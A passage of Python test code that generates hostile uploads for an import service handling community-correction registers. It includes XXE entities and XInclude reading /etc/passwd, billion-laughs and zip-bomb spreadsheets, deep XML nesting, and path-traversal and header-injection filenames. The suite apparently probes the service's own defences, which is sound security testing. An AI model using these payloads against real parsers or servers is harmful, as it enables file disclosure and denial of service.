                          lambda c, f=formula: _register_xlsx([_register_row(状态=f)]),
                          params=as_of | {"filename": "名册.xlsx"}, may_accept=True, rows=True))
    xml_register = (b'<?xml version="1.0" encoding="UTF-8"?>\n<register xmlns="urn:xianjie:register:v1" '
                    b'kind="bureau_register" agency="530502SF" asOf="2026-06-30"><row><name>X</name></row></register>')
    try:
        from hub.registers import NS as RNS
        xml_register = xml_register.replace(b"urn:xianjie:register:v1", RNS.encode())
    except ImportError:
        pass
    payloads = dtd_payloads(b"register", CANARY)
    for name in ("xxe-file-passwd", "xxe-http", "xxe-parameter-entity", "dtd-system-http", "billion-laughs",
                 "quadratic-blowup", "internal-entity"):
        prolog, inner = payloads[name]
        cases.append(Case(f"register-xml-{name}", "dtd/entities", f"registers/{kind}", agency,
                          lambda c, p=prolog, i=inner: _fill(with_dtd(xml_register, p, i), c),
                          params={"filename": "名册.xml"}, rows=True))
    for name, fn in {
        "xml-xinclude": lambda c: first_child_text(xml_register, b'<xi:include xmlns:xi="http://www.w3.org/2001/'
                                                   b'XInclude" href="file:///etc/passwd" parse="text"/>'),
        "xml-nesting-1e5": lambda c: first_child_text(xml_register, b"<a>" * 100_000 + b"</a>" * 100_000),
        "xml-utf16": lambda c: xml_register.decode().encode("utf-16"),
        "xml-invalid-utf8": lambda c: first_child_text(xml_register, b"\xff\xfe\xc0"),
        "xlsx-bomb-300m": lambda c: bomb_xlsx(300 * 1024 * 1024),
        "xlsx-bomb-shared-strings": lambda c: bomb_xlsx(300 * 1024 * 1024, part="xl/sharedStrings.xml"),
        "xlsx-lying-sizes": lambda c: bomb_xlsx(300 * 1024 * 1024, declared_small=True),
        "xlsx-xxe-shared-strings": lambda c: xlsx_with_part(
            "xl/sharedStrings.xml", b'<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&x;</t></si></sst>'),
        "csv-invalid-utf8": lambda c: _register_csv([_register_row()]) + b"\xff\xc0\xaf\n",
        "csv-nul": lambda c: _register_csv([_register_row("张\x00三")]),
        "csv-many-columns": lambda c: b",".join(b"h%d" % i for i in range(100_000)) + b"\n",
        "csv-unclosed-quote": lambda c: "姓名,\"".encode() + b"x" * 300_000,
    }.items():
        fname = "名册.xml" if name.startswith("xml") else "名册.xlsx" if name.startswith("xlsx") else "名册.csv"
        cases.append(Case(f"register-{name}", name.split("-")[0] + "-hostile", f"registers/{kind}", agency, fn,
                          params=({} if fname.endswith("xml") else as_of) | {"filename": fname}, rows=True))
    return cases


def _register_xlsx(rows: list[dict[str, str]]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    headers = list(dict.fromkeys(h for r in rows for h in r))
    ws.append(headers)
    for r in rows:
        ws.append([r.get(h) for h in headers])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def filename_cases() -> list[Case]:
    names = ["../../etc/passwd", "/etc/passwd", "..\\..\\windows\\win.ini", "a\x00b.xml", "../" * 50 + "x.xml",
             "C:\\Windows\\system32\\x.xml", "x" * 5_000 + ".xml", "<script>alert(1)</script>.xml",
             "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "名册\r\nX-Injected: 1.xml", "\u202eLMX.exe", ".", ".."]
    cases: list[Case] = []
    for n, name in enumerate(names):
        cases.append(Case(f"filename-inbound-bureau-{n}", "path-traversal", "inbound/bureau", "530581SF",
                          lambda c: _bureau_batch(), params={"filename": name}, may_accept=True))
        cases.append(Case(f"filename-register-{n}", "path-traversal", "registers/bureau_register", "530502SF",
                          lambda c: _register_csv([_register_row()]),
                          params={"filename": name, "as_of": "2026-06-30"}, may_accept=True, rows=True))
    return cases


HISTORY = ("姓名,身份证号码,矫正类别,矫正起始日期,矫正终止日期,状态\n"
           "张三,530581198001010011,缓刑,2015-01-01,2016-12-31,解矫\n")


def history_cases() -> list[Case]:
    """A NUL character in what a historical register's import stores as text (PostgreSQL refuses it)."""
    return [Case(f"history-{name}-nul", "path-traversal", "reports/history", "530581SF",
                 lambda c: HISTORY.encode(), params={"as_of": "2016-12-31", "filename": "名册.csv"} | {name: "a\x00b"})
            for name in ("filename", "by")]


def _bureau_batch() -> bytes:
    from tests.test_inbound import bureau_batch

    return bureau_batch(1)


def all_cases() -> list[Case]:
    return [*canonical_cases(), *native_xml_cases(), *police_cases(), *ledger_cases(), *register_cases(),
            *filename_cases(), *history_cases()]
